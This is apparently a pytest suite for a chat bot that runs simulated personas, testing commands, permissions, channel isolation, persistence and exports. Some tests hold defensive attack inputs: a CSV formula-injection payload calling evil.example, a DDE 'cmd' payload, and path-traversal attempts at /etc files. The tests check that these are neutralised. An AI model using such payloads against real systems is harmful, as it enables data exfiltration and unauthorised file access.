"""The bot's commands and channel sessions, on the in-memory platform (no network, no tokens)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sqlite3
from collections import Counter
from pathlib import Path

import pytest

from bots.storage import OutboxStatus
from bots.storage.sqlite import SQLiteStorage
from bots.verification import Verdict, VerdictAction, VerificationContext, Verifier
from simulation.events import EventKind
from tests.fakes.openai_server import FakeOpenAIServer
from tests.support.paths import AGENTS
from tests.support.testbot import demo_settings, fake_model_settings, start_bot
from tests.support.turns import TurnRule, kind_of, persona_of
from tests.support.waiting import until


@pytest.fixture
async def testbot(tmp_path):
    bot = await start_bot(demo_settings(tmp_path, file_dirs=[AGENTS]))
    yield bot
    await bot.app.stop()



async def team(bot, channel: str = "general", *names: str) -> None:
    await bot.command("start Launch review", channel=channel)
    for name in names or ("Priya Nair", "Tomasz Kowalski", "Henrik Lindqvist"):
        await bot.command(f"persona add {name}", channel=channel)


async def test_help_and_mistakes_are_explained_privately(testbot):
    text = await testbot.reply("help")
    assert "persona add" in text and "observe NAME on|off" in text
    text = await testbot.reply("fly away")
    assert "unknown command 'fly'" in text and "help" in text
    text = await testbot.reply("sumary --since 3")
    assert "unknown command 'sumary'" in text and "did you mean `summary`?" in text
    assert "did you mean `start` or `status`?" in await testbot.reply("stat")
    # On a platform whose commands need no prefix the hints stay as they are; the console adds its slash.
    from bots.reply import Reply, with_command_prefix
    reply = with_command_prefix(Reply("`stop` it first; `help` lists them; `stopped` is a word", failed=True), "/")
    assert (reply.text, reply.failed) == ("`/stop` it first; `/help` lists them; `stopped` is a word", True)
    assert "`export` cannot write 'pdf': the formats are json, csv and md" in await testbot.reply("export pdf")
    assert "`export` needs a format: json, csv or md" in await testbot.reply("export")
    assert (await testbot.reply("help /poll")).startswith('**Troupe: poll**\npoll "QUESTION" OPTION OPTION')
    assert "`/quit` (or `/exit`, or Ctrl-D) leaves" in await testbot.reply("help quit")
    text = await testbot.reply("run lots")
    assert "whole number" in text and "Usage: run N" in text
    text = await testbot.reply("run 3")
    assert "This channel has no world." in text and "start NAME" in text
    sent = await testbot.command("policy sometimes")
    assert sent[0].kind == "private" and "unknown policy 'sometimes'" in sent[0].text


async def test_a_team_answers_a_human_under_their_own_names(testbot):
    await team(testbot)
    sent = await testbot.say("Should we ship the invoicing redesign this Friday or wait a week?")
    posts = [s for s in sent if s.kind == "post"]
    assert [p.identity for p in posts][:3] == ["Priya Nair", "Tomasz Kowalski", "Henrik Lindqvist"]
    assert all("Friday" in p.text or "week" in p.text for p in posts[:3])
    session = testbot.app.sessions.get("memory:general")
    entries = await testbot.app.storage.outbox_entries(session.record.id)
    assert [e.status for e in entries] == [OutboxStatus.POSTED] * len(posts)
    assert [e.platform_message_id for e in entries] == [p.message_id for p in posts]
    stored = await testbot.app.storage.load_world(session.record.id)
    assert stored.events[0].source == "mod" and "Friday" in stored.events[0].content
    assert len(stored.events) == len(session.world.events)


async def test_non_moderators_are_refused_state_changes_but_may_look(testbot):
    await team(testbot, "general", "Priya Nair")
    for command in ("persona add Henrik Lindqvist", "stop confirm", "run 2", "reset confirm", "observe Priya on",
                    "policy addressed"):
        sent = await testbot.command(command, user="guest", user_is_moderator=False)
        assert len(sent) == 1 and sent[0].kind == "private" and sent[0].user == "guest"
        assert "Only moderators" in sent[0].text
    assert "Priya Nair" in await testbot.reply("persona list", user="guest", user_is_moderator=False)
    session = testbot.app.sessions.get("memory:general")
    assert [a.name for a in session.world.agents] == ["Priya Nair"]


async def test_two_channels_live_at_once_without_seeing_each_other(testbot):
    await team(testbot, "alpha", "Priya Nair")
    await team(testbot, "beta", "Henrik Lindqvist", "Chloe Bennett")
    await testbot.say("Alpha secret: the launch date is March 3. Thoughts?", channel="alpha")
    await testbot.say("What do you think of our pricing?", channel="beta")
    alpha = testbot.app.sessions.get("memory:alpha").world
    beta = testbot.app.sessions.get("memory:beta").world
    assert [a.name for a in alpha.agents] == ["Priya Nair"]
    assert [a.name for a in beta.agents] == ["Henrik Lindqvist", "Chloe Bennett"]
    assert not any("Alpha secret" in e.content for e in beta.events)
    assert {p.identity for p in testbot.adapter.posts("alpha")} == {"Priya Nair"}
    assert {p.identity for p in testbot.adapter.posts("beta")} <= {"Henrik Lindqvist", "Chloe Bennett"}


async def test_observing_a_persona_streams_its_thoughts_privately(testbot):
    await team(testbot, "general", "Priya Nair", "Henrik Lindqvist")
    assert "You now privately see" in await testbot.reply("observe Priya on")
    sent = await testbot.say("Is the budget realistic?")
    thoughts = [s for s in sent if s.kind == "private"]
    assert len(thoughts) >= 1 and all(t.user == "mod" for t in thoughts)
    assert thoughts[0].text.startswith("Priya Nair thinks:") and "emotions:" in thoughts[0].text
    assert not any(t.text.startswith("Henrik") for t in thoughts), "only the observed persona"
    await testbot.command("observe Priya off")
    sent = await testbot.say("Anything else?")
    assert not [s for s in sent if s.kind == "private"]


async def test_pause_keeps_listening_and_resume_catches_up(testbot):
    await team(testbot, "general", "Priya Nair")
    await testbot.command("pause")
    sent = await testbot.say("Priya, are you there?")
    assert not [s for s in sent if s.kind == "post"]
    session = testbot.app.sessions.get("memory:general")
    assert session.world.get("Priya").has_unread(), "the message was heard"
    sent = await testbot.command("resume")
    posts = [s for s in sent if s.kind == "post"]
    assert posts and posts[0].identity == "Priya Nair"


async def test_bad_persona_input_is_explained_and_changes_nothing(testbot, tmp_path):
    await team(testbot, "general", "Priya Nair")
    testbot.app.settings.bot.file_dirs.append(tmp_path)
    bad = tmp_path / "bad.json"
    bad.write_text('{"name": "Ana", "age": "old"}')
    text = await testbot.reply(f"persona add {bad}")
    assert str(bad) in text and "age" in text
    text = await testbot.reply('persona add {"name": "Ana", "age": }')
    assert "pasted persona" in text
    text = await testbot.reply("persona add Nobody Atall")
    assert "Nobody Atall" in text and "Priya Nair" in text, "the error lists what exists"
    text = await testbot.reply("persona add Priya Nair")
    assert "already has a persona named 'Priya Nair'" in text
    session = testbot.app.sessions.get("memory:general")
    stored = await testbot.app.storage.load_world(session.record.id)
    assert [p.name for p in stored.personas] == ["Priya Nair"]


async def test_chat_moderators_read_only_allowed_folders(tmp_path):
    secret = tmp_path / "outside" / "notes.json"
    secret.parent.mkdir()
    secret.write_text('{"name": "Leaky Larry", "occupation": "none"}')
    bot = await start_bot(demo_settings(tmp_path, file_dirs=[AGENTS]))
    try:
        await bot.command("start Research")
        for attempt in (str(secret), f"{AGENTS}/../../../{secret.relative_to('/')}", "../../etc/passwd.json",
                        "/etc/hostname.json"):
            text = await bot.reply(f"persona add {attempt}")
            assert "not a file Troupe may read here" in text and "bot.file_dirs" in text, text
            assert "Leaky" not in text and "No such file" not in text
        assert "Lisa Carter joined" in (await bot.command("persona add Lisa.agent.json"))[0].text  # inside file_dirs
        text = await bot.reply(f"start Other --scenario {secret}")
        assert "This channel already has" in text or "not a file" in text
        session = bot.app.sessions.get("memory:general")
        assert [a.name for a in session.world.agents] == ["Lisa Carter"]
    finally:
        await bot.app.stop()


async def test_tinytroupe_files_and_pasted_json_join_the_world(testbot):
    await testbot.command("start Research")
    assert "Lisa Carter joined" in (await testbot.command(f"persona add {AGENTS / 'Lisa.agent.json'}"))[0].text
    pasted = json.dumps({"name": "Ana Souza", "age": 29, "occupation": "Nurse", "speaking_style": "warm"})
    assert "Ana Souza joined" in (await testbot.command(f"persona add {pasted}"))[0].text
    show = await testbot.reply("persona show Lisa")
    assert "Data Scientist" in show and "Microsoft, M365 Search Team" in show
    assert "Lisa Carter" in await testbot.reply("persona list")
    assert "Lisa Carter left" in (await testbot.command("persona remove Lisa Carter"))[0].text
    assert "Lisa" not in await testbot.reply("persona list")


async def test_policies_ask_and_pick(testbot):
    await team(testbot)
    reply = await testbot.reply("policy addressed --exchanges 0")
    assert reply == "Policy: addressed — only personas named or mentioned answer; no persona-to-persona exchange follows."
    assert (await testbot.reply("policy addressed --exchanges 1")).endswith("then up to 1 persona-to-persona exchange.")
    await testbot.command("policy addressed --exchanges 0")
    sent = await testbot.say("Henrik, is the cost model sound?")
    assert {s.identity for s in sent if s.kind == "post"} == {"Henrik Lindqvist"}
    sent = await testbot.command("ask Tomasz Can the backend take the load?")
    assert {s.identity for s in sent if s.kind == "post"} == {"Tomasz Kowalski"}
    await testbot.command("policy moderator")
    assert not [s for s in await testbot.say("Who wants to go?") if s.kind == "post"]
    sent = await testbot.command("pick Priya")
    assert {s.identity for s in sent if s.kind == "post"} == {"Priya Nair"}
    assert "only personas you `pick` answer" in (await testbot.command("policy"))[0].text


async def test_round_robin_with_exchanges_lets_every_persona_speak_in_turn(testbot):
    """Four personas and one exchange make two steps a message: the same two used to answer every
    message, and the other two only each other's remarks, which the demo mostly lets pass in thought."""
    names = ["Priya Nair", "Tomasz Kowalski", "Henrik Lindqvist", "Amara Okafor"]
    await team(testbot, "general", *names)
    await testbot.command("policy round_robin --exchanges 1")
    speakers = []
    for question in ("What should we ship first?", "How is the budget?", "Any risks with the migration?",
                     "Who owns the rollout?", "Thoughts on hiring?", "Anything else?"):
        speakers += [s.identity for s in await testbot.say(question, user="you") if s.kind == "post"]
    assert set(speakers) == set(names), speakers
    seats = [names.index(name) for name in speakers]
    assert all(after == (before + 1) % len(names) for before, after in zip(seats, seats[1:])), speakers


async def test_a_pick_with_nothing_to_answer_is_kept_for_the_next_message(testbot):
    """Picked in a quiet room, Priya and Henrik used to take empty turns and lose the pick: nobody
    answered the next message either."""
    await team(testbot)
    await testbot.command("policy moderator")
    sent = await testbot.command("pick Priya Henrik")
    assert [s.text for s in sent] == [
        "Next: Priya Nair, Henrik Lindqvist. Nothing to answer yet: the pick waits for the next message."]
    session = testbot.app.sessions.get("memory:general")
    stored = await testbot.app.storage.load_world(session.record.id)
    assert stored.record.policy["picks"] == ["Priya Nair", "Henrik Lindqvist"], "kept across a restart"
    sent = await testbot.say("What about the budget?")
    assert [s.identity for s in sent if s.kind == "post"] == ["Priya Nair", "Henrik Lindqvist"]
    assert not [e for e in session.world.events if e.content == "Nothing new to react to."]
    assert [s.identity for s in await testbot.command("pick Tomasz") if s.kind == "post"] == ["Tomasz Kowalski"]
    sent = await testbot.command("pick Tomasz Priya")
    assert sent[0].text == ("Next: Priya Nair. Tomasz Kowalski has nothing new to answer yet, "
                            "and will answer the next message.")
    assert session.world.events[-1].source == "Priya Nair", "her turn now (a remark she may only think about)"
    sent = await testbot.say("And the timeline?")
    assert [s.identity for s in sent if s.kind == "post"] == ["Tomasz Kowalski"]


async def test_full_names_typed_without_quotes_name_the_persona_not_the_question(testbot):
    await team(testbot)
    await testbot.command("policy addressed --exchanges 0")
    sent = await testbot.command("ask Tomasz Kowalski Can the backend take the load?")
    assert {s.identity for s in sent if s.kind == "post"} == {"Tomasz Kowalski"}
    session = testbot.app.sessions.get("memory:general")
    asked = [e.content for e in session.world.events if e.kind.value == "stimulus"]
    assert asked[-1] == "Can the backend take the load?", asked
    await testbot.command("policy moderator")
    reply = (await testbot.command("pick Priya Nair henrik lindqvist Priya"))[0].text
    assert reply == "Next: Priya Nair, Henrik Lindqvist.", reply
    reply = (await testbot.command("pick Priya Nobody"))[0].text
    assert "no persona named 'Nobody'" in reply


async def test_markdown_export_keeps_names_as_text_and_run_says_what_it_takes(testbot):
    await team(testbot, "general", "Priya Nair")
    await testbot.say("Priya, what do you think?", user="Star *Man* _x_")
    testbot.adapter.uploads = True
    (shared,) = [s for s in await testbot.command("export md") if s.kind == "file"]
    body = shared.file[1].decode()
    assert "**Star \\*Man\\* \\_x\\_**" in body, body
    assert "takes one number: the steps to run" in await testbot.reply("run 1 2")
    assert "`/quit` (or `/exit`, or Ctrl-D) leaves" in await testbot.reply("help")


async def test_run_reset_usage_and_status(testbot):
    await team(testbot, "general", "Priya Nair", "Chloe Bennett")
    await testbot.say("Quick poll: coffee or tea?")
    status = (await testbot.command("status"))[0].text
    assert "Priya Nair, Chloe Bennett" in status and "active" in status
    usage = await testbot.reply("usage")
    assert "model calls" in usage and "Priya Nair" in usage
    # Token counts are read as numbers: thousands grouped ("2,531 prompt").
    prompt = usage.split(" prompt + ")[0].rsplit(" ", 1)[1]
    assert "," in prompt and int(prompt.replace(",", "")) >= 1000, usage
    assert "Ran 2 step(s)" in await testbot.reply("run 2")
    await testbot.command("reset confirm")
    session = testbot.app.sessions.get("memory:general")
    assert session.world.events == [] and session.world.clock.step == 0
    stored = await testbot.app.storage.load_world(session.record.id)
    assert stored.events == [] and [p.name for p in stored.personas] == ["Priya Nair", "Chloe Bennett"]


async def test_export_writes_files_that_say_they_are_simulated(testbot, tmp_path):
    await team(testbot, "general", "Priya Nair")
    await testbot.say("What should we name the feature?")
    testbot.adapter.uploads = True
    for fmt in ("md", "csv", "json"):
        (shared,) = [s for s in await testbot.command(f"export {fmt}") if s.kind == "file"]
        body = shared.file[1].decode()
        assert "What should we name the feature?" in body
        assert "Simulated conversation" in body and "offline demo model" in body


async def test_a_csv_export_opens_in_a_spreadsheet_without_running_what_a_guest_wrote(testbot):
    """A cell starting with =, +, - or @ is a formula to a spreadsheet: HYPERLINK or WEBSERVICE would send
    the sheet's data to whoever wrote it. It is written as text."""
    await team(testbot, "general", "Priya Nair")
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"open")'
    await testbot.say(formula, user="guest")
    await testbot.say("@SUM(1+1)*cmd|' /C calc'!A0", user="guest")
    testbot.adapter.uploads = True
    (shared,) = [s for s in await testbot.command("export csv") if s.kind == "file"]
    rows = list(csv.DictReader(io.StringIO(shared.file[1].decode())))
    said = [row["content"] for row in rows if row["source"] == "guest"]
    assert said and not any(cell[:1] in "=+-@" for cell in said), said
    assert said[0] == "'" + formula, "the words are kept, behind a quote a spreadsheet reads as 'text'"


async def test_stop_unbinds_and_a_new_world_can_start(testbot):
    await team(testbot, "general", "Priya Nair")
    assert "Stopped the world" in (await testbot.command("stop confirm"))[0].text
    assert await testbot.say("hello?") == [], "a chat channel without a world stays quiet"
    assert "Started the world" in (await testbot.command("start Second"))[0].text


async def test_restart_restores_worlds_and_posts_what_was_stored_but_not_posted(tmp_path):
    settings = demo_settings(tmp_path)
    bot = await start_bot(settings)
    await team(bot, "general", "Priya Nair", "Henrik Lindqvist")
    bot.adapter.fail_next_posts(100)  # the platform is down: messages are stored, not posted
    bot.adapter.push_message("Can we cut the budget by 10%?")
    # Let the step finish and its posts fail once, then stop (as if the process ended).
    for _ in range(200):
        await __import__("asyncio").sleep(0.01)
        if bot.adapter.post_attempts >= 1:
            break
    session = bot.app.sessions.get("memory:general")
    world_id = session.record.id
    await bot.app.stop()
    storage = SQLiteStorage(settings.database_path)
    await storage.open()
    pending = await storage.pending_outbox()
    await storage.close()
    assert pending, "persona messages were stored before any post succeeded"
    assert not bot.adapter.posts("general") or all(p.identity == "Troupe" for p in bot.adapter.posts("general"))

    restarted = await start_bot(settings)
    await restarted.app.wait_idle()
    posts = restarted.adapter.posts("general")
    owed = [e.text for e in pending]
    assert [p.text for p in posts[: len(owed)]] == owed, "each stored message posted first, in order"
    later = [p.text for p in posts[len(owed) :]]
    assert not set(later) & set(owed), "nothing owed is posted twice (later posts are the resumed exchange)"
    world = restarted.app.sessions.get("memory:general").world
    assert [a.name for a in world.agents] == ["Priya Nair", "Henrik Lindqvist"]
    assert any("cut the budget" in e.content for e in world.events)
    entries = await restarted.app.storage.outbox_entries(world_id)
    assert all(e.status is OutboxStatus.POSTED for e in entries)
    assert len({e.platform_message_id for e in entries}) == len(entries)
    await restarted.say("And after the restart?")
    assert restarted.adapter.posts("general")[len(posts):], "the restored world answers new messages"
    await restarted.app.stop()


async def test_usage_the_clock_and_whose_turn_it_is_are_as_they_were_after_a_restart(tmp_path):
    """Writes carry the clock, the turn order and usage only when they changed: what was stored last
    is still what the world had."""
    settings = demo_settings(tmp_path)
    bot = await start_bot(settings)
    await team(bot, "general", "Priya Nair", "Henrik Lindqvist", "Chloe Bennett")
    await bot.command("policy round-robin --exchanges 1")
    for text in ("Coffee or tea?", "And for the offsite?", "Who books the room?"):
        await bot.say(text)
    usage = await bot.reply("usage")
    world = bot.app.sessions.get("memory:general").world
    before = (world.clock.model_dump(mode="json"), world.policy.model_dump())
    assert before[0]["step"] >= 3, before
    await bot.app.stop()

    restarted = await start_bot(settings)
    try:
        world = restarted.app.sessions.get("memory:general").world
        assert (world.clock.model_dump(mode="json"), world.policy.model_dump()) == before
        assert await restarted.reply("usage") == usage
    finally:
        await restarted.app.stop()


async def test_a_persona_that_only_listened_keeps_its_stored_row_and_everyone_comes_back_as_they_were(tmp_path):
    """A persona that only heard something has new episodes and nothing else new: its memory row is
    not rewritten (a trigger counts the rewrites), and after a restart every persona's memory is
    what it was, unread episodes included."""
    settings = demo_settings(tmp_path)
    bot = await start_bot(settings)
    await team(bot, "general", "Priya Nair", "Henrik Lindqvist", "Chloe Bennett")
    await bot.command("policy addressed --exchanges 0")
    with sqlite3.connect(settings.database_path) as db:
        db.executescript("""
            CREATE TABLE row_writes (persona TEXT);
            CREATE TRIGGER count_row_writes AFTER UPDATE ON memories BEGIN
                INSERT INTO row_writes VALUES (NEW.persona);
            END;""")
    spoke = []
    for name, text in (("Priya", "Coffee or tea?"), ("Henrik", "And for the offsite?")):
        spoke += [s.identity for s in await bot.command(f"ask {name} {text}") if s.kind == "post"]
    world = bot.app.sessions.get("memory:general").world
    before = {a.name: a.state().model_dump(exclude={"persona"}) for a in world.agents}
    await bot.app.stop()
    with sqlite3.connect(settings.database_path) as db:
        rewritten = Counter(name for (name,) in db.execute("SELECT persona FROM row_writes"))

    assert spoke == ["Priya Nair", "Henrik Lindqvist"], spoke
    listener = "Chloe Bennett"
    assert rewritten[listener] == 0, rewritten
    assert all(rewritten[name] >= 1 for name in spoke), rewritten
    assert before[listener]["unread_from"] < len(before[listener]["episodic"]["episodes"]), "she has unread news"
    restarted = await start_bot(settings)
    try:
        world = restarted.app.sessions.get("memory:general").world
        assert {a.name: a.state().model_dump(exclude={"persona"}) for a in world.agents} == before
    finally:
        await restarted.app.stop()


async def test_replies_are_posted_while_memory_is_consolidated_and_the_fold_is_stored_when_done(tmp_path):
    release = asyncio.Event()
    rule = TurnRule()

    async def slow_folds(body):
        if kind_of(body) == "consolidate":
            await release.wait()
        return rule(body)

    async with FakeOpenAIServer() as server:
        server.responder = slow_folds
        settings = fake_model_settings(tmp_path, server, default_exchanges=0)
        bot = await start_bot(settings)
        await team(bot, "general", "Priya Nair", "Henrik Lindqvist")
        world = bot.app.sessions.get("memory:general").world
        priya = world.get("Priya Nair")
        for n in range(30):
            bot.adapter.push_message(f"Point {n}: what should we change in the onboarding flow?")
            posts = [await bot.adapter.pop("post", timeout=10) for _ in world.agents]
            assert all(f"Point {n}:" in p.text for p in posts), "every persona answered this message"
            if priya.memory_work is not None:
                break
        assert priya.memory_work is not None and not priya.episodic.summary, "a fold is under way"
        release.set()
        await bot.app.wait_idle()
        assert priya.episodic.summary.startswith("I remember") and priya.memory_work is None
        remembered = (priya.episodic.summary, priya.episodic.consolidated_until, priya.semantic.facts)
        world_id = bot.app.sessions.get("memory:general").record.id
        calls = bot.app.stack.ledger.by_persona(world_id)["Priya Nair"].calls
        await bot.app.stop()  # no message came after the fold to store it along

        restarted = await start_bot(settings)
        again = restarted.app.sessions.get("memory:general").world.get("Priya Nair")
        assert (again.episodic.summary, again.episodic.consolidated_until, again.semantic.facts) == remembered
        assert restarted.app.stack.ledger.by_persona(world_id)["Priya Nair"].calls == calls, "the fold's call counts"
        await restarted.app.stop()


async def test_a_persona_whose_turn_was_cut_short_answers_after_a_restart_and_the_others_do_not_again(tmp_path):
    """The first persona's answer is stored; the second is still thinking when the bot stops. After the
    restart the second answers that message, and the first, who already did, does not answer it again."""
    rule = TurnRule()
    turns: list[str] = []
    second_thinks = asyncio.Event()

    async def second_is_slow(body):
        if kind_of(body) == "agent_turn" and not second_thinks.is_set():
            turns.append(persona_of(body))
            if len(turns) == 2:
                second_thinks.set()
                await asyncio.sleep(3600)
        return rule(body)

    async with FakeOpenAIServer() as server:
        settings = fake_model_settings(tmp_path, server, default_exchanges=0)
        bot = await start_bot(settings)
        await team(bot, "general", "Priya Nair", "Henrik Lindqvist")
        server.responder = second_is_slow
        bot.adapter.push_message("Should we move the launch to March?")
        await asyncio.wait_for(second_thinks.wait(), 10)
        first, second = turns
        assert (await bot.adapter.pop("post", timeout=10)).identity == first
        await bot.app.stop(timeout=0)  # the second's turn is cut short

        restarted = await start_bot(settings)
        try:
            await restarted.app.wait_idle()
            answers = [(p.identity, p.text) for p in restarted.adapter.posts("general")]
            assert [who for who, _ in answers] == [second], answers
            assert answers[0][1].endswith("Should we move the launch to March?>")
        finally:
            await restarted.app.stop()


async def test_a_turn_answered_by_the_model_but_not_yet_stored_is_taken_again_after_a_crash(tmp_path):
    """The second persona's model answer comes back first, but its turn is stored after the first
    persona's. The bot stops while that second turn is being checked: its answer was never stored,
    so after the restart the second persona still owes it (its memory was not stored as having
    answered), and answers; the first does not answer again."""
    rule = TurnRule()
    order: list[str] = []

    async def first_is_slow(body):
        if kind_of(body) == "agent_turn" and len(order) < 2:
            order.append(persona_of(body))
            if len(order) == 1:
                await asyncio.sleep(0.5)  # the second's answer is back long before the first's
        return rule(body)

    class SecondIsChecked(Verifier):
        """Checks the second persona's words for ever (the bot stops meanwhile); passes the rest."""

        async def verify(self, text: str, context: VerificationContext) -> Verdict:
            if len(order) == 2 and context.persona == order[1] and text.endswith("the launch to March?>"):
                await asyncio.sleep(3600)
            return Verdict(action=VerdictAction.PASS, text=text)

    async with FakeOpenAIServer() as server:
        server.responder = rule
        settings = fake_model_settings(tmp_path, server, default_exchanges=0)
        bot = await start_bot(settings, verifier=SecondIsChecked())
        await team(bot, "general", "Priya Nair", "Henrik Lindqvist")
        await bot.say("Good morning!")  # the model's abilities are learnt: from now on turns run side by side
        seen = len(bot.adapter.posts("general"))
        server.responder = first_is_slow
        bot.adapter.push_message("Should we move the launch to March?")
        await until(lambda: len(bot.adapter.posts("general")) > seen, 10)
        assert bot.adapter.posts("general")[seen].identity == order[0]
        await asyncio.sleep(0.2)
        await bot.app.stop(timeout=0)  # while the second's words are being checked

        restarted = await start_bot(settings)
        try:
            await restarted.app.wait_idle()
            answers = [p.identity for p in restarted.adapter.posts("general")]
            assert answers == [order[1]], answers
        finally:
            await restarted.app.stop()


async def test_a_persona_that_only_thinks_stops_showing_as_typing(tmp_path):
    rule = TurnRule()
    rule.silent.add("Henrik Lindqvist")
    async with FakeOpenAIServer() as server:
        server.responder = rule
        bot = await start_bot(fake_model_settings(tmp_path, server, default_exchanges=0))
        try:
            await team(bot, "general", "Priya Nair", "Henrik Lindqvist")
            before = len(bot.adapter.sent)
            sent = await bot.say("Should we move the launch to March?")
            typing = [(s.kind, s.identity) for s in bot.adapter.sent[before:] if s.kind in ("typing", "stopped_typing")]
            assert sorted(typing) == [("stopped_typing", "Henrik Lindqvist"), ("typing", "Henrik Lindqvist"),
                                      ("typing", "Priya Nair")], "Priya's post ends her typing; Henrik only thought"
            assert [s.identity for s in sent if s.kind == "post"] == ["Priya Nair"]
        finally:
            await bot.app.stop()


async def test_demo_model_posts_carry_the_demo_label(testbot):
    await team(testbot, "general", "Priya Nair")
    await testbot.say("Hello Priya")
    session = testbot.app.sessions.get("memory:general")
    entries = await testbot.app.storage.outbox_entries(session.record.id)
    assert entries and all(e.identity["tag"] == "demo model" for e in entries)


async def test_a_conversation_posts_what_it_stored_without_reading_the_outbox_back(testbot):
    """Once a channel's earlier posts are out, a step's posts go out from what it just stored: with
    hundreds of channels, reading every channel's pending outbox again after each step is that many
    more storage reads for nothing."""
    await team(testbot)
    await testbot.say("Should we ship on Friday?")
    storage = testbot.app.storage
    reads: list[str | None] = []
    read_pending = storage.pending_outbox

    async def counted(channel_key: str | None = None):
        reads.append(channel_key)
        return await read_pending(channel_key)

    storage.pending_outbox = counted
    sent = await testbot.say("And what about Monday?")
    assert [s.identity for s in sent if s.kind == "post"][:3] == ["Priya Nair", "Tomasz Kowalski", "Henrik Lindqvist"]
    assert reads == []
    session = testbot.app.sessions.get("memory:general")
    assert all(e.status is OutboxStatus.POSTED for e in await storage.outbox_entries(session.record.id))


async def test_every_event_is_stored_even_when_one_arrives_while_a_write_is_in_flight(testbot):
    """Focus groups add their questions while the replies before them are still being checked and
    stored; the event log keeps every one of them (ids with no gap, each question there)."""
    from bots.storage.sqlite import SQLiteStorage

    await team(testbot, "general")
    for n in range(8):  # enough that memories are folded while the focus groups run
        await testbot.say(f"hello all, {n}")
    for _ in range(3):
        await testbot.command('focus "Remote or office?" --rounds 2')
    session = testbot.app.sessions.get("memory:general")
    held = [(e.id, e.content) for e in session.world.events]
    stored = await testbot.app.services.storage.read_events(session.record.id)
    assert [(e.id, e.content) for e in stored] == held
    assert [e.id for e in stored] == list(range(1, len(stored) + 1))
    assert isinstance(testbot.app.services.storage, SQLiteStorage)


async def test_a_world_over_its_budget_stays_paused_through_resume_and_reset(tmp_path):
    """A reset forgets the conversation, not what it cost: the budget still counts it, and a resume
    says why the world stays paused instead of answering once more."""
    settings = demo_settings(tmp_path)
    settings.llm.budget_tokens = 3000
    bot = await start_bot(settings)
    try:
        await team(bot, "general", "Priya Nair", "Henrik Lindqvist")
        for n in range(6):
            sent = await bot.say(f"Question {n}: is the budget realistic?")
            if any("is paused" in s.text for s in sent):
                break
        paused = [s.text for s in bot.adapter.sent if "is paused" in s.text]
        assert paused and paused[0].startswith("“Launch review” is paused: it reached its budget of 3,000 tokens")
        assert "TROUPE_LLM_BUDGET_TOKENS" in paused[0]
        assert not [s for s in bot.adapter.sent if s.kind == "private" and "world '" in s.text], "no hex ids"
        world = bot.app.sessions.get("memory:general").world
        notices = [e.content for e in world.events if e.kind.value == "notice" and e.type == "budget"]
        assert notices and all(n.startswith("“Launch review” reached its budget") for n in notices), notices
        spent = (await bot.reply("usage"))
        assert "“Launch review” stays paused: it reached its budget" in await bot.reply("resume")
        assert "Reset" in (await bot.command("reset confirm"))[0].text
        assert await bot.reply("usage") == spent, "what was spent before the reset still counts"
        assert "stays paused" in await bot.reply("resume")
        assert not [s for s in await bot.say("Anyone?") if s.kind == "post"]
        # Every way of making personas talk says the same, once, privately, by the world's name.
        before = len(bot.adapter.sent)
        for command in ("run 2", "ask Priya are you there?", 'poll "Ship on Friday?" yes no'):
            sent = await bot.command(command)
            assert [s.kind for s in sent] == ["private"], (command, sent)
            assert "“Launch review” stays paused: it reached its budget of 3,000 tokens" in sent[0].text, command
            assert "world '" not in sent[0].text and "Ran 2 step" not in sent[0].text
        assert not [s for s in bot.adapter.sent[before:] if s.kind == "post"]
    finally:
        await bot.app.stop()


async def test_pausing_twice_and_asking_while_paused_say_what_is_going_on(testbot):
    await team(testbot, "general", "Priya Nair")
    assert "already paused" not in (await testbot.command("pause"))[0].text
    assert "“Launch review” is already paused" in await testbot.reply("pause")
    assert "is paused, so the answer comes after `resume`" in await testbot.reply("ask Priya are you there?")
    sent = await testbot.command("resume")
    assert [s.identity for s in sent if s.kind == "post"] == ["Priya Nair"], "the question waited for the resume"
    assert "is not paused" in await testbot.reply("resume")


@pytest.fixture
async def scenario_bot(tmp_path):
    """A bot that may read scenario files from ``tmp_path`` (on chat platforms, ``bot.file_dirs``)."""
    bot = await start_bot(demo_settings(tmp_path, file_dirs=[tmp_path]))
    yield bot
    await bot.app.stop()


async def test_a_scenario_started_in_a_channel_brings_its_policy_steps_and_opening(scenario_bot, tmp_path):
    testbot = scenario_bot
    scenario = tmp_path / "launch.yaml"
    scenario.write_text(
        "name: Launch check\npolicy: addressed\nsteps: 3\npersonas:\n  - Priya Nair\n  - Henrik Lindqvist\n"
        'opening: "Priya, would you ship on Friday?"\nmessages:\n  - text: "Henrik, and you?"\n'
    )
    sent = await testbot.command(f"start --scenario {scenario}")
    text = next(s.text for s in sent if "Started the world" in s.text)
    assert "Policy: addressed, 2 persona exchange(s) after each message." in text
    assert "Opening: Priya, would you ship on Friday?" in text
    assert "1 scripted message(s) are for `troupe simulate`" in text
    await testbot.app.wait_idle()
    posts = [s for s in testbot.adapter.sent if s.kind == "post"]
    assert posts and posts[0].identity == "Priya Nair", "the opening is put to the personas, who answer"
    status = await testbot.reply("status")
    assert "Policy: addressed, 2 persona exchange(s)" in status


async def test_a_scenario_with_an_unknown_policy_is_refused_before_anything_starts(scenario_bot, tmp_path):
    testbot = scenario_bot
    scenario = tmp_path / "bad.yaml"
    scenario.write_text("name: Bad\npolicy: loudest\npersonas:\n  - Priya Nair\n")
    text = await testbot.reply(f"start --scenario {scenario}")
    assert "unknown turn-taking policy 'loudest'" in text and "round_robin" in text
    assert "No world in this channel" in await testbot.reply("status")


async def test_a_scenario_is_started_whole_or_not_at_all(scenario_bot, tmp_path):
    """A persona listed twice, or one refused by the safety checks: the channel is left without a
    half-built world, and a new start works."""
    import json

    testbot = scenario_bot
    twice = tmp_path / "twice.yaml"
    twice.write_text("name: Dup scen\npersonas:\n  - Priya Nair\n  - priya nair\n")
    assert "The scenario lists Priya Nair twice" in await testbot.reply(f"start --scenario {twice}")
    assert "No world in this channel" in await testbot.reply("status")
    vex = tmp_path / "vex.json"
    vex.write_text(json.dumps({"name": "Vex Morrow", "age": 30, "occupation": "Consultant", "behaviors": {
        "general": ["Harass and insult newcomers until they leave the channel."]}}))
    refused = tmp_path / "refused.yaml"
    refused.write_text(f"name: Half\npersonas:\n  - Priya Nair\n  - {vex}\n")
    assert "Vex Morrow cannot join" in await testbot.reply(f"start --scenario {refused}")
    assert "No world in this channel" in await testbot.reply("status")
    assert "Started the world “Other”" in await testbot.reply("start Other")


async def test_files_saved_for_a_platform_without_uploads_never_overwrite_each_other(testbot):
    testbot.adapter.on_host = True  # as in the console
    await team(testbot, "general", "Priya Nair")
    await testbot.say("First question?")
